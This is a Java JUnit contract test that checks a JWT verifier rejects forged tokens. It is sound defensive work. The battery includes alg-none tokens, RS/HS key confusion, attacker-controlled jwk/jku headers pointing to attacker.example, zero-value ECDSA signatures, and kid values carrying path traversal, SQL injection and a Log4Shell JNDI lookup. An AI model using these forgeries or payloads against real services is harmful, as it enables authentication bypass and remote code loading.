package dev.cloudnative.security;

import static dev.cloudnative.security.JwsCrafter.b64;
import static dev.cloudnative.security.JwsCrafter.payload;
import static dev.cloudnative.security.JwsCrafter.signed;
import static dev.cloudnative.security.JwsCrafter.unsigned;
import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Set;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The hostile-input battery of issue 8, the contract of every {@link TokenVerifier}: each attack is
 * rejected, and with the right reason.
 */
abstract class TokenVerifierContractTest {

  /** A token service (issuer plus the verifier under test) over the given parts. */
  protected abstract TokenService create(
      TokenConfig config,
      KeyRing keys,
      RevocationStore revocations,
      RefreshTokenStore refreshTokens);

  private static final String ISS = "https://auth.example.com";
  private static final String AUD = "orders-api";

  private MutableClock clock;
  private static SigningKey esKey;
  private static SigningKey rsKey;
  private static SigningKey edKey;
  private KeyRing ring;
  private RevocationStore revocations;
  private TokenService service;
  private long now;

  @BeforeAll
  static void generateKeys() {
    esKey = SigningKey.generate(SigningAlgorithm.ES256, "es-1");
    rsKey = SigningKey.generate(SigningAlgorithm.RS256, "rs-1");
    edKey = SigningKey.generate(SigningAlgorithm.EDDSA, "ed-1");
  }

  @BeforeEach
  void setUp() {
    clock = MutableClock.at("2026-03-01T12:00:00Z");
    now = clock.instant().getEpochSecond();
    ring = KeyRing.of(esKey);
    ring.addVerificationKey(rsKey, clock.instant().plus(Duration.ofDays(1)));
    ring.addVerificationKey(edKey, clock.instant().plus(Duration.ofDays(1)));
    revocations = RevocationStore.inMemory(clock);
    service = create(config().build(), ring, revocations, RefreshTokenStore.inMemory(clock));
  }

  private TokenConfig.Builder config() {
    return TokenConfig.custom()
        .issuer(ISS)
        .audience(AUD)
        .clock(clock)
        .clockSkew(Duration.ofSeconds(30));
  }

  private String header(String alg, String kid) {
    return "{\"alg\":\"" + alg + "\",\"kid\":\"" + kid + "\",\"typ\":\"at+jwt\"}";
  }

  private String esSigned(String headerJson, String payloadJson) throws Exception {
    return signed(
        headerJson, payloadJson, new ECDSASigner(esKey.toJwk().toECKey()), JWSAlgorithm.ES256);
  }

  private String edSigned(String headerJson, String payloadJson) {
    return signed(headerJson, payloadJson, edKey.signer(), JWSAlgorithm.EdDSA);
  }

  private void assertRejected(String token, RejectionReason reason) {
    VerificationResult result = service.verify(token);
    assertThat(result).isInstanceOf(VerificationResult.Rejected.class);
    assertThat(((VerificationResult.Rejected) result).reason())
        .as(result.toString())
        .isEqualTo(reason);
  }

  @Test
  void aWellFormedCraftedTokenIsAcceptedSoTheBatteryTestsTheRightThing() throws Exception {
    String token = esSigned(header("ES256", "es-1"), payload(ISS, AUD, now));
    VerificationResult result = service.verify(token);
    assertThat(result.isValid()).as(result.toString()).isTrue();
    assertThat(result.claimsOrThrow().roles()).containsExactly("viewer");
  }

  @ParameterizedTest
  @ValueSource(strings = {"none", "None", "NONE", "nOnE", "noNe"})
  void algNoneInEveryCasingIsRejected(String alg) throws Exception {
    String h = header(alg, "es-1");
    String p = payload(ISS, AUD, now);
    assertRejected(unsigned(h, p, ""), RejectionReason.ALGORITHM_NOT_ALLOWED);
    assertRejected(unsigned(h, p, "c2lnbmF0dXJl"), RejectionReason.ALGORITHM_NOT_ALLOWED);
    // The same without kid must not slip through either.
    assertRejected(
        unsigned("{\"alg\":\"" + alg + "\"}", p, ""), RejectionReason.ALGORITHM_NOT_ALLOWED);
  }

  @Test
  void rsHsConfusionWithThePublicKeyAsHmacSecretIsRejected() throws Exception {
    RSAKey publicRsa = rsKey.publicJwk().orElseThrow().toRSAKey();
    byte[] publicDer = publicRsa.toPublicKey().getEncoded();
    String pem =
        "-----BEGIN PUBLIC KEY-----\n"
            + java.util.Base64.getMimeEncoder().encodeToString(publicDer)
            + "\n-----END PUBLIC KEY-----\n";
    for (byte[] secret : new byte[][] {publicDer, pem.getBytes(StandardCharsets.US_ASCII)}) {
      String token =
          signed(
              header("HS256", "rs-1"),
              payload(ISS, AUD, now),
              new MACSigner(secret),
              JWSAlgorithm.HS256);
      assertRejected(token, RejectionReason.ALGORITHM_NOT_ALLOWED);
    }
  }

  @Test
  void embeddedJwkHeaderIsRejected() throws Exception {
    ECKey attacker = new ECKeyGenerator(Curve.P_256).keyID("es-1").generate();
    String h =
        "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"at+jwt\",\"jwk\":"
            + attacker.toPublicJWK().toJSONString()
            + "}";
    String token = signed(h, payload(ISS, AUD, now), new ECDSASigner(attacker), JWSAlgorithm.ES256);
    assertRejected(token, RejectionReason.UNTRUSTED_KEY_REFERENCE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"jku", "x5u"})
  void remoteKeyUrlsAreRejected(String param) throws Exception {
    String h =
        "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"at+jwt\",\""
            + param
            + "\":\"https://attacker.example/keys.json\"}";
    // Even when correctly signed with our own key the reference is refused.
    assertRejected(esSigned(h, payload(ISS, AUD, now)), RejectionReason.UNTRUSTED_KEY_REFERENCE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../../../dev/null",
        "/etc/passwd",
        "..\\\\..\\\\windows\\\\win.ini",
        "' OR '1'='1",
        "es-1' --",
        "${jndi:ldap://attacker.example/a}",
        "es-1\\u0000",
        "%2e%2e%2fkeys",
        "ES-1",
        " es-1",
        ""
      })
  void kidTraversalAndInjectionFindNoKey(String kid) throws Exception {
    assertRejected(
        esSigned(header("ES256", kid), payload(ISS, AUD, now)), RejectionReason.UNKNOWN_KEY);
  }

  @Test
  void missingKidIsRejected() throws Exception {
    assertRejected(
        esSigned("{\"alg\":\"ES256\",\"typ\":\"at+jwt\"}", payload(ISS, AUD, now)),
        RejectionReason.UNKNOWN_KEY);
  }

  @Test
  void allZeroEcdsaSignatureIsRejected() throws Exception {
    // CVE-2022-21449 ("psychic signatures"): r = s = 0 verified on unpatched JDKs 15-18.
    String token =
        unsigned(
            header("ES256", "es-1"),
            payload(ISS, AUD, now),
            Base64URL.encode(new byte[64]).toString());
    assertRejected(token, RejectionReason.BAD_SIGNATURE);
    String derZero =
        Base64URL.encode(new byte[] {0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}).toString();
    assertRejected(
        unsigned(header("ES256", "es-1"), payload(ISS, AUD, now), derZero),
        RejectionReason.BAD_SIGNATURE);
  }

  @Test
  void tamperedHeaderPayloadAndSignatureAreRejected() {
    String token = service.issue("alice", Set.of("viewer"), Set.of()).value();
    String[] parts = token.split("\\.");
    String otherHeader =
        b64("{\"kid\":\"es-1\",\"typ\":\"at+jwt\",\"alg\":\"ES256\",\"cty\":\"x\"}");
    assertThat(otherHeader).isNotEqualTo(parts[0]);
    assertRejected(otherHeader + "." + parts[1] + "." + parts[2], RejectionReason.BAD_SIGNATURE);
    String payloadJson =
        new String(Base64URL.from(parts[1]).decode(), StandardCharsets.UTF_8)
            .replace("\"viewer\"", "\"admin\"");
    assertRejected(
        parts[0] + "." + b64(payloadJson) + "." + parts[2], RejectionReason.BAD_SIGNATURE);
    char[] sig = parts[2].toCharArray();
    sig[10] = sig[10] == 'A' ? 'B' : 'A';
    assertRejected(
        parts[0] + "." + parts[1] + "." + new String(sig), RejectionReason.BAD_SIGNATURE);
    assertRejected(
        parts[0] + "." + parts[1] + "." + parts[2].substring(0, 40), RejectionReason.BAD_SIGNATURE);
    assertThat(service.verify(token).isValid()).isTrue();
  }

  @Test
  void expiryAndNotBeforeHonourTheSkewAndNoMore() {
    String token = service.issue("alice", Set.of(), Set.of()).value();
    clock.advance(Duration.ofMinutes(5).plusSeconds(29));
    assertThat(service.verify(token).isValid()).isTrue();
    clock.advance(Duration.ofSeconds(2));
    assertRejected(token, RejectionReason.EXPIRED);

    clock.set(java.time.Instant.parse("2026-03-01T12:10:00Z"));
    String future = service.issue("alice", Set.of(), Set.of()).value();
    clock.set(java.time.Instant.parse("2026-03-01T12:09:35Z"));
    assertThat(service.verify(future).isValid()).isTrue();
    clock.set(java.time.Instant.parse("2026-03-01T12:09:29Z"));
    assertRejected(future, RejectionReason.NOT_YET_VALID);
  }

  @Test
  void issuedInTheFutureBeyondSkewIsRejected() throws Exception {
    String p =
        "{\"iss\":\""
            + ISS
            + "\",\"sub\":\"a\",\"aud\":\""
            + AUD
            + "\",\"exp\":"
            + (now + 600)
            + ",\"iat\":"
            + (now + 120)
            + ",\"jti\":\"x\"}";
    assertRejected(esSigned(header("ES256", "es-1"), p), RejectionReason.NOT_YET_VALID);
  }

  @Test
  void wrongIssuerAudienceAndTypeAreRejected() throws Exception {
    assertRejected(
        esSigned(header("ES256", "es-1"), payload("https://evil.example", AUD, now)),
        RejectionReason.WRONG_ISSUER);
    assertRejected(
        esSigned(header("ES256", "es-1"), payload(ISS, "billing-api", now)),
        RejectionReason.WRONG_AUDIENCE);
    String multiAud =
        payload(ISS, AUD, now)
            .replace("\"aud\":\"" + AUD + "\"", "\"aud\":[\"billing-api\",\"" + AUD + "\"]");
    assertThat(service.verify(esSigned(header("ES256", "es-1"), multiAud)).isValid()).isTrue();
    for (String typ : new String[] {"JWT", "id_token+jwt", "rt+jwt", "at+jwt2"}) {
      String h = "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"" + typ + "\"}";
      assertRejected(esSigned(h, payload(ISS, AUD, now)), RejectionReason.WRONG_TYPE);
    }
    assertRejected(
        esSigned("{\"alg\":\"ES256\",\"kid\":\"es-1\"}", payload(ISS, AUD, now)),
        RejectionReason.WRONG_TYPE);
    String mediaType = "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"application/AT+JWT\"}";
    assertThat(service.verify(esSigned(mediaType, payload(ISS, AUD, now))).isValid()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"exp", "iat", "iss", "aud", "jti", "sub"})
  void missingRequiredClaimsAreRejected(String claim) throws Exception {
    var claims = com.nimbusds.jose.util.JSONObjectUtils.parse(payload(ISS, AUD, now));
    claims.remove(claim);
    String p = com.nimbusds.jose.util.JSONObjectUtils.toJSONString(claims);
    assertRejected(esSigned(header("ES256", "es-1"), p), RejectionReason.MISSING_CLAIM);
  }

  @Test
  void unknownCriticalHeaderIsRejected() throws Exception {
    String h =
        "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"at+jwt\",\"crit\":[\"https://x.example/must\"],"
            + "\"https://x.example/must\":true}";
    assertRejected(
        esSigned(h, payload(ISS, AUD, now)), RejectionReason.UNSUPPORTED_CRITICAL_HEADER);
  }

  @Test
  void oneMegabyteTokenIsRejectedBeforeParsing() {
    String huge =
        b64("{\"alg\":\"ES256\",\"kid\":\"es-1\"}") + "." + "A".repeat(1024 * 1024) + ".AAAA";
    assertRejected(huge, RejectionReason.TOO_LARGE);
  }

  @Test
  void deeplyNestedJsonIsMalformed() throws Exception {
    TokenService roomy =
        create(
            config().maxTokenLength(65_536).build(),
            ring,
            revocations,
            RefreshTokenStore.inMemory(clock));
    String nested = "[".repeat(20_000) + "]".repeat(20_000);
    String deepHeader =
        "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"at+jwt\",\"x\":" + nested + "}";
    VerificationResult r1 = roomy.verify(esSigned(deepHeader, payload(ISS, AUD, now)));
    assertThat(r1).isInstanceOf(VerificationResult.Rejected.class);
    assertThat(((VerificationResult.Rejected) r1).reason()).isEqualTo(RejectionReason.MALFORMED);
    String deepPayload =
        payload(ISS, AUD, now).replace("\"roles\":[\"viewer\"]", "\"deep\":" + nested);
    VerificationResult r2 = roomy.verify(esSigned(header("ES256", "es-1"), deepPayload));
    assertThat(((VerificationResult.Rejected) r2).reason()).isEqualTo(RejectionReason.MALFORMED);
    String objects = "{\"a\":".repeat(8_000) + "1" + "}".repeat(8_000);
    String deepObjects =
        payload(ISS, AUD, now).replace("\"roles\":[\"viewer\"]", "\"deep\":" + objects);
    VerificationResult r3 = roomy.verify(esSigned(header("ES256", "es-1"), deepObjects));
    assertThat(((VerificationResult.Rejected) r3).reason()).isEqualTo(RejectionReason.MALFORMED);
  }

  @Test
  void invalidBase64AndJsonAreMalformed() throws Exception {
    String p = b64(payload(ISS, AUD, now));
    String h = b64(header("ES256", "es-1"));
    String[] garbage = {
      "",
      ".",
      "..",
      "a.b",
      "a.b.c.d",
      "abc",
      h + "." + p,
      h + ".." + "AAAA",
      "eyJ!!!.eyJ.AAAA",
      h + "=." + p + ".AAAA",
      h + "." + p + "=.AAAA",
      h + "." + p + ".AA AA",
      "A" + h + "." + p + ".AAAA",
      h + "." + p + ".A",
      b64("{not json") + "." + p + ".AAAA",
      b64("[1,2]") + "." + p + ".AAAA",
      b64("\"str\"") + "." + p + ".AAAA",
      b64("{\"kid\":\"es-1\"}") + "." + p + ".AAAA",
      b64("{\"alg\":42}") + "." + p + ".AAAA",
      "\u0000\u0001.\u0002.\u0003"
    };
    for (String g : garbage) {
      VerificationResult r = service.verify(g);
      assertThat(r).as("input %s", g).isInstanceOf(VerificationResult.Rejected.class);
      assertThat(((VerificationResult.Rejected) r).reason())
          .as("input %s", g)
          .isEqualTo(RejectionReason.MALFORMED);
    }
    assertRejected(null, RejectionReason.MALFORMED);
    // Properly signed but the payload is not a JSON object, or claims have the wrong types.
    assertRejected(esSigned(header("ES256", "es-1"), "not json"), RejectionReason.MALFORMED);
    assertRejected(esSigned(header("ES256", "es-1"), "[1]"), RejectionReason.MALFORMED);
    assertRejected(
        esSigned(
            header("ES256", "es-1"),
            payload(ISS, AUD, now).replace("\"exp\":" + (now + 300), "\"exp\":\"tomorrow\"")),
        RejectionReason.MALFORMED);
    assertRejected(
        esSigned(header("ES256", "es-1"), payload(ISS, AUD, now).replace("[\"viewer\"]", "42")),
        RejectionReason.MALFORMED);
  }

  @Test
  void aReplayedRevokedJtiIsRejected() {
    AccessToken token = service.issue("alice", Set.of("viewer"), Set.of());
    assertThat(service.verify(token.value()).isValid()).isTrue();
    service.revoke(token.value());
    assertRejected(token.value(), RejectionReason.REVOKED);
    clock.advance(Duration.ofSeconds(10));
    assertRejected(token.value(), RejectionReason.REVOKED);
  }

  @Test
  void algorithmMustBeTheKeysOwnEvenAmongAsymmetricAlgorithms() throws Exception {
    // PS256 header on an RS256 key: same key type, different algorithm — still refused.
    var rsaSigner = new com.nimbusds.jose.crypto.RSASSASigner(rsKey.toJwk().toRSAKey());
    String ps =
        signed(header("PS256", "rs-1"), payload(ISS, AUD, now), rsaSigner, JWSAlgorithm.PS256);
    assertRejected(ps, RejectionReason.ALGORITHM_NOT_ALLOWED);
    String rs =
        signed(header("RS256", "rs-1"), payload(ISS, AUD, now), rsaSigner, JWSAlgorithm.RS256);
    assertThat(service.verify(rs).isValid()).isTrue();
    assertRejected(
        esSigned(header("XYZ", "es-1"), payload(ISS, AUD, now)),
        RejectionReason.ALGORITHM_NOT_ALLOWED);
    assertRejected(
        esSigned(header("ES384", "es-1"), payload(ISS, AUD, now)),
        RejectionReason.ALGORITHM_NOT_ALLOWED);
  }

  @Test
  void eddsaTokensVerifyAndEdDsaIsBoundToItsKeyLikeEveryOtherAlgorithm() throws Exception {
    String p = payload(ISS, AUD, now);
    VerificationResult ok = service.verify(edSigned(header("EdDSA", "ed-1"), p));
    assertThat(ok.isValid()).as(ok.toString()).isTrue();
    assertThat(ok.claimsOrThrow().keyId()).contains("ed-1");
    // EdDSA header naming an EC key, and ES256 header naming the Ed25519 key: both refused.
    assertRejected(edSigned(header("EdDSA", "es-1"), p), RejectionReason.ALGORITHM_NOT_ALLOWED);
    assertRejected(esSigned(header("ES256", "ed-1"), p), RejectionReason.ALGORITHM_NOT_ALLOWED);
    assertRejected(
        signed(
            header("RS256", "ed-1"),
            p,
            new com.nimbusds.jose.crypto.RSASSASigner(rsKey.toJwk().toRSAKey()),
            JWSAlgorithm.RS256),
        RejectionReason.ALGORITHM_NOT_ALLOWED);
    // Another Ed25519 key under the same kid: a wrong key, not a valid token.
    SigningKey other = SigningKey.generate(SigningAlgorithm.EDDSA, "ed-1");
    assertRejected(
        signed(header("EdDSA", "ed-1"), p, other.signer(), JWSAlgorithm.EdDSA),
        RejectionReason.BAD_SIGNATURE);
    assertRejected(
        unsigned(header("EdDSA", "ed-1"), p, Base64URL.encode(new byte[64]).toString()),
        RejectionReason.BAD_SIGNATURE);
    String token = edSigned(header("EdDSA", "ed-1"), p);
    String[] parts = token.split("\\.");
    assertRejected(
        parts[0] + "." + b64(p.replace("viewer", "admin")) + "." + parts[2],
        RejectionReason.BAD_SIGNATURE);
    assertRejected(
        parts[0] + "." + parts[1] + "." + parts[2].substring(0, 40), RejectionReason.BAD_SIGNATURE);
  }

  @Test
  void eddsaSignatureWithSPlusTheGroupOrderIsRejected() {
    // RFC 8032 §5.1.7: S must be below the group order L, else (R, S + L) would be a second valid
    // signature of the same message: one token, two spellings.
    String token = edSigned(header("EdDSA", "ed-1"), payload(ISS, AUD, now));
    int dot = token.lastIndexOf('.');
    byte[] sig = Base64URL.from(token.substring(dot + 1)).decode();
    java.math.BigInteger order =
        java.math.BigInteger.TWO
            .pow(252)
            .add(new java.math.BigInteger("27742317777372353535851937790883648493"));
    byte[] littleEndianS = java.util.Arrays.copyOfRange(sig, 32, 64);
    byte[] bigEndian = new byte[32];
    for (int i = 0; i < 32; i++) {
      bigEndian[i] = littleEndianS[31 - i];
    }
    byte[] sPlusL = new java.math.BigInteger(1, bigEndian).add(order).toByteArray();
    for (int i = 0; i < 32; i++) {
      sig[32 + i] = i < sPlusL.length ? sPlusL[sPlusL.length - 1 - i] : 0;
    }
    assertRejected(
        token.substring(0, dot + 1) + Base64URL.encode(sig), RejectionReason.BAD_SIGNATURE);
    assertThat(service.verify(token).isValid()).isTrue();
  }

  /**
   * The same bytes spelled with non-zero unused bits in the last character, or null when the
   * segment's length leaves no unused bits.
   */
  private static String respelled(String segment) {
    int unusedBits =
        switch (segment.length() % 4) {
          case 2 -> 4;
          case 3 -> 2;
          default -> 0;
        };
    if (unusedBits == 0) {
      return null;
    }
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    int last = alphabet.indexOf(segment.charAt(segment.length() - 1));
    String other = segment.substring(0, segment.length() - 1) + alphabet.charAt(last | 1);
    assertThat(Base64URL.from(other).decode()).isEqualTo(Base64URL.from(segment).decode());
    return other;
  }

  @ParameterizedTest
  @ValueSource(strings = {"ES256", "EdDSA"})
  void everySegmentHasExactlyOneSpelling(String alg) throws Exception {
    // Pad the header JSON with spaces until neither header nor payload is a multiple of 4.
    String p = payload(ISS, AUD, now);
    while (b64(p).length() % 4 == 0) {
      p = p + " ";
    }
    String h = header(alg, "EdDSA".equals(alg) ? "ed-1" : "es-1");
    while (b64(h).length() % 4 == 0) {
      h = h + " ";
    }
    String token = "EdDSA".equals(alg) ? edSigned(h, p) : esSigned(h, p);
    assertThat(service.verify(token).isValid()).isTrue();
    String[] parts = token.split("\\.");
    for (int i = 0; i < 3; i++) {
      String[] copy = parts.clone();
      copy[i] = respelled(parts[i]);
      assertThat(copy[i]).as("segment %d has unused bits", i).isNotNull();
      assertRejected(String.join(".", copy), RejectionReason.MALFORMED);
      copy[i] = parts[i] + (parts[i].length() % 4 == 2 ? "==" : "=");
      assertRejected(String.join(".", copy), RejectionReason.MALFORMED);
      copy[i] = parts[i].replace('-', '+').replace('_', '/');
      if (!copy[i].equals(parts[i])) {
        assertRejected(String.join(".", copy), RejectionReason.MALFORMED);
      }
    }
  }

  @Test
  void b64FalseIsRejectedWithOrWithoutCrit() throws Exception {
    String p = payload(ISS, AUD, now);
    String noCrit = "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"at+jwt\",\"b64\":false}";
    assertRejected(esSigned(noCrit, p), RejectionReason.MALFORMED);
    String withCrit =
        "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"at+jwt\",\"b64\":false,\"crit\":[\"b64\"]}";
    // Signed as RFC 7797 says (header, a dot and the payload as is), still refused.
    String input = b64(withCrit) + "." + p;
    Base64URL sig =
        new ECDSASigner(esKey.toJwk().toECKey())
            .sign(
                new com.nimbusds.jose.JWSHeader(JWSAlgorithm.ES256),
                input.getBytes(StandardCharsets.UTF_8));
    assertRejected(b64(withCrit) + ".." + sig, RejectionReason.MALFORMED);
    assertRejected(esSigned(withCrit, p), RejectionReason.UNSUPPORTED_PAYLOAD_ENCODING);
    String otherCrit =
        "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"at+jwt\",\"b64\":false,\"crit\":[\"typ\"]}";
    assertRejected(esSigned(otherCrit, p), RejectionReason.MALFORMED);
  }

  @Test
  void b64TrueIsTheDefaultAndTheOnlyCriticalParameterUnderstood() throws Exception {
    String p = payload(ISS, AUD, now);
    String base = "{\"alg\":\"ES256\",\"kid\":\"es-1\",\"typ\":\"at+jwt\"";
    assertThat(service.verify(esSigned(base + ",\"b64\":true}", p)).isValid()).isTrue();
    VerificationResult critB64 =
        service.verify(esSigned(base + ",\"b64\":true,\"crit\":[\"b64\"]}", p));
    assertThat(critB64.isValid()).as(critB64.toString()).isTrue();
    // RFC 7515 §4.1.11: crit naming a registered header, or anything not understood, is refused;
    // an empty list, duplicates and names the header lacks are never valid.
    assertRejected(
        esSigned(base + ",\"crit\":[\"kid\"]}", p), RejectionReason.UNSUPPORTED_CRITICAL_HEADER);
    assertRejected(
        esSigned(base + ",\"b64\":true,\"x\":1,\"crit\":[\"b64\",\"x\"]}", p),
        RejectionReason.UNSUPPORTED_CRITICAL_HEADER);
    assertRejected(esSigned(base + ",\"crit\":[]}", p), RejectionReason.MALFORMED);
    assertRejected(
        esSigned(base + ",\"b64\":true,\"crit\":[\"b64\",\"b64\"]}", p), RejectionReason.MALFORMED);
    assertRejected(esSigned(base + ",\"crit\":[\"b64\"]}", p), RejectionReason.MALFORMED);
    assertRejected(esSigned(base + ",\"crit\":[\"b64\",7]}", p), RejectionReason.MALFORMED);
    assertRejected(esSigned(base + ",\"crit\":\"b64\"}", p), RejectionReason.MALFORMED);
  }
}
